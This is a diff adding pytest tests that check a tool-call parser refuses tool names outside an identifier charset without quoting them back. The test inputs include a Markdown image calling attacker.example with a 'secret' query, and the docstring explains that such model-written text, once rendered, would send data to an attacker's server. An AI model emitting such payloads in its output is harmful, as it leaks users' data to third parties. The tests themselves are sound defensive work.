@@ -40,6 +40,27 @@ def test_unreadable_calls_raise(text: str) -> None:
         parse.parse_tool_call(text)
 
 
+@pytest.mark.parametrize("name", [
+    "![](https://attacker.example/?q=secret)", "[x](https://attacker.example)", "<img src=x>", "a`b", "local search!",
+    "x" * 65, "local_search\nmore", ":red[x]", "$x$",
+])
+def test_tool_names_outside_the_identifier_charset_are_refused_without_echoing_them(name: str) -> None:
+    """A tool name is model-written text that the tool error, the session log and the UI repeat: a name that is no
+    identifier (a Markdown image that would fetch an attacker's URL in every viewer's browser) is refused, and the
+    message does not quote it (issue 34, finding 3)."""
+    with pytest.raises(parse.CallParseError) as refused:
+        parse.parse_tool_call(f'<call_tool name="{name}">query</call_tool>')
+    message = str(refused.value)
+    assert name.strip() not in message and "attacker" not in message
+    if "<" not in name:  # (an unquoted `>` ends the tag first: then the tag has no name at all)
+        assert 'write <call_tool name="TOOL"> with a listed name' in message
+
+
+@pytest.mark.parametrize("name", ["local_search", "Google Search", "docs.lookup-v2", "a", "x" * 64])
+def test_tool_names_in_the_identifier_charset_are_read(name: str) -> None:
+    assert parse.parse_tool_call(f'<call_tool name="{name}">q</call_tool>').name == name
+
+
 def test_main_text_aliases_map_to_canonical_tags() -> None:
     assert [parse.canonical_tag(t) for t in ("analysis", "RUBRICS", "rubrics_review", "rubric")] == [
         "deep_analysis", "rubric", "rubric_review", "rubric"]
